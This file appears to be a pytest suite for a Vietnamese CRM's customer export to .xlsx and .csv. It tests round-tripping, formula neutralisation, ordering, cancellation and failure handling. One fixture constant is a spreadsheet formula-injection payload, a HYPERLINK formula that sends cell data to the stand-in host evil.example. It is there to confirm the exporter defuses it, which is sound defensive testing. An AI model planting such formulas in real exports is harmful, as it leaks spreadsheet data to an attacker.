"""Exporting customers to .xlsx and .csv: readable back, safe to open, all or nothing."""

from __future__ import annotations

import csv
import datetime as dt
import tempfile
import zipfile

import openpyxl
import pytest

from shopcrm.core import customers
from shopcrm.core.errors import KnownError
from shopcrm.db import connection
from shopcrm.db.models import AuditLog, Customer, CustomerTag, Tag
from shopcrm.db.session import open_database
from shopcrm.io import export

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def shop(tmp_path):
    open_database("sqlite:///" + str(tmp_path / "shop.db"))
    an = customers.create({
        "name": "Nguyễn Văn An", "phone": "0912345678", "email": "an@example.com",
        "birthday": dt.date(1990, 12, 25), "gender": "male", "source": "referral",
        "address": "12 Lý Thường Kiệt", "ward": "Phường Hàng Bài", "district": "Quận Hoàn Kiếm",
        "province": "Hà Nội", "notes": "Thích cà phê sữa đá",
    })
    customers.create({"name": INJECTION, "notes": "-1+2", "kind": "organisation"})
    customers.create({"name": "Trần Thị Bích Ngọc", "gender": "female"})
    gone = customers.create({"name": "Đã xoá"})
    customers.trash([gone.id])
    for tag in ("VIP", "Khách sỉ"):
        CustomerTag.create(customer=an, tag=Tag.create(name=tag))
    yield tmp_path
    connection.close()


def read_xlsx(path):
    book = openpyxl.load_workbook(path)
    try:
        return [list(row) for row in book.active.iter_rows()]
    finally:
        book.close()


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def by_header(header_row, row):
    return dict(zip([cell.value if hasattr(cell, "value") else cell for cell in header_row], row))


def test_xlsx_round_trip(shop):
    path = shop / "khach.xlsx"
    assert export.export_customers(path) == 3
    rows = read_xlsx(path)
    assert [cell.value for cell in rows[0]] == list(export.headers())
    assert len(rows) == 4  # header + 3, the one in the trash is left out
    an = next(by_header(rows[0], row) for row in rows[1:] if row[1].value == "Nguyễn Văn An")
    assert an["Mã khách hàng"].value == "KH000001"
    assert an["Điện thoại"].value == "0912345678"
    assert an["Điện thoại"].data_type == "s"
    assert an["Ngày sinh"].value == dt.datetime(1990, 12, 25)  # a real date cell
    assert an["Ngày sinh"].is_date and an["Ngày sinh"].number_format == "DD/MM/YYYY"
    assert an["Ngày tạo"].is_date
    assert an["Ngày tạo"].value.date() in {dt.date.today(), dt.date.today() - dt.timedelta(1)}
    assert an["Giới tính"].value == "Nam"
    assert an["Loại khách"].value == "Cá nhân"
    assert an["Nguồn"].value == "Được giới thiệu"
    assert an["Nhóm khách hàng"].value == "Khách sỉ|VIP"
    assert an["Tỉnh/Thành phố"].value == "Hà Nội"
    assert an["Ghi chú"].value == "Thích cà phê sữa đá"
    assert an["Điện thoại 2"].value is None


def test_xlsx_never_holds_a_formula(shop):
    path = shop / "khach.xlsx"
    export.export_customers(path)
    rows = read_xlsx(path)
    evil = next(row for row in rows if row[1].value == INJECTION)
    assert evil[1].data_type == "s"
    assert evil[1].quotePrefix
    assert evil[7].value == "Tổ chức"
    assert evil[14].value == "-1+2" and evil[14].data_type == "s"
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) for n in sheets)


def test_csv_round_trip(shop):
    path = shop / "khach.csv"
    assert export.export_customers(path) == 3
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel
    rows = read_csv(path)
    assert rows[0] == list(export.headers())
    an = next(by_header(rows[0], row) for row in rows[1:] if row[1] == "Nguyễn Văn An")
    assert an["Điện thoại"] == "0912345678"
    assert an["Ngày sinh"] == "25/12/1990"
    assert an["Giới tính"] == "Nam"
    assert an["Nhóm khách hàng"] == "Khách sỉ|VIP"
    assert an["Email"] == "an@example.com"
    ngoc = next(by_header(rows[0], row) for row in rows[1:] if row[1] == "Trần Thị Bích Ngọc")
    assert ngoc["Giới tính"] == "Nữ" and ngoc["Ngày sinh"] == "" and ngoc["Nguồn"] == ""


def test_csv_neutralises_formulas(shop):
    path = shop / "khach.csv"
    export.export_customers(path)
    rows = read_csv(path)
    evil = next(row for row in rows if INJECTION in row[1])
    assert evil[1] == "'" + INJECTION
    assert evil[14] == "'-1+2"
    assert all(not cell.startswith(export.FORMULA_TRIGGERS) for row in rows for cell in row)


def test_english_headers_and_labels(shop):
    path = shop / "customers.csv"
    export.export_customers(path, language="en")
    rows = read_csv(path)
    assert rows[0][:3] == ["Customer code", "Name", "Phone"]
    an = by_header(rows[0], next(row for row in rows if row[1] == "Nguyễn Văn An"))
    assert (an["Gender"], an["Kind"], an["Source"]) == ("Male", "Individual", "Referral")


def test_selected_ids_in_the_given_order(shop):
    path = shop / "chon.csv"
    assert export.export_customers(path, ids=[3, 1, 999]) == 2
    assert [row[0] for row in read_csv(path)[1:]] == ["KH000003", "KH000001"]
    assert read_csv(path)[2][13] == "Khách sỉ|VIP"


def test_default_order_is_by_name(shop):
    path = shop / "khach.csv"
    export.export_customers(path)
    codes = [row[0] for row in read_csv(path)[1:]]
    expected = [c.code for c in Customer.select().where(Customer.deleted_at.is_null())
                .order_by(Customer.sort_key, Customer.id)]
    assert codes == expected


def test_progress_and_audit(shop):
    Customer.insert_many(
        [{"code": f"X{i:05d}", "name": f"Khách {i}", "phone": f"09{i:08d}"} for i in range(2500)]
    ).execute()
    calls = []
    written = export.export_customers(shop / "many.xlsx",
                                      progress=lambda done, total: calls.append((done, total)))
    assert written == 2503
    assert calls == [(1000, 2503), (2000, 2503), (2503, 2503)]
    assert len(read_xlsx(shop / "many.xlsx")) == 2504
    assert AuditLog.select().where(AuditLog.action == "export").count() == 1


@pytest.fixture
def system_temp(tmp_path, monkeypatch):
    """The system temporary folder, where openpyxl keeps a sheet while writing it."""
    folder = tmp_path / "system-temp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cancel_leaves_no_file(shop, suffix, system_temp):
    path = shop / ("khach" + suffix)
    with pytest.raises(export.Cancelled) as raised:
        export.export_customers(path, cancel=lambda: True)
    assert isinstance(raised.value, KnownError)
    assert str(raised.value) == "Export cancelled; no file was written."
    # Beside the database: its WAL files, and the writer lock and open marker (db.connection).
    assert sorted(p.name for p in shop.iterdir()) == [
        "shop.db", "shop.db-shm", "shop.db-wal", "shop.db.lock", "shop.db.open", "system-temp"]
    assert list(system_temp.iterdir()) == []


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cancel_late_keeps_an_existing_file(shop, suffix, system_temp):
    path = shop / ("khach" + suffix)
    path.write_bytes(b"last month's export")
    asked = []

    def cancel():
        asked.append(1)
        return len(asked) > 1  # the user cancels after writing has started

    with pytest.raises(export.Cancelled):
        export.export_customers(path, cancel=cancel)
    assert path.read_bytes() == b"last month's export"
    assert sorted(p.name for p in shop.iterdir() if p.name.startswith(".")) == []
    assert list(system_temp.iterdir()) == []


def test_failure_while_writing_keeps_an_existing_file(shop, monkeypatch):
    path = shop / "khach.csv"
    path.write_bytes(b"last month's export")

    def broken(row, tags, labels):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_values", broken)
    with pytest.raises(export.ExportError, match="No space left"):
        export.export_customers(path)
    assert path.read_bytes() == b"last month's export"
    assert [p.name for p in shop.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("name", ["khach.xls", "khach.ods", "khach"])
def test_unknown_suffix(shop, name):
    with pytest.raises(export.ExportError, match=".xlsx or .csv"):
        export.export_customers(shop / name)
    assert not (shop / name).exists()


def test_control_characters_do_not_break_xlsx(shop):
    Customer.create(code="KH900000", name="Bell\x07 và tab\tở giữa", phone="0912345679",
                    search_key="", sort_key="")
    export.export_customers(shop / "khach.xlsx", ids=[5])
    assert read_xlsx(shop / "khach.xlsx")[1][1].value == "Bell và tab\tở giữa"
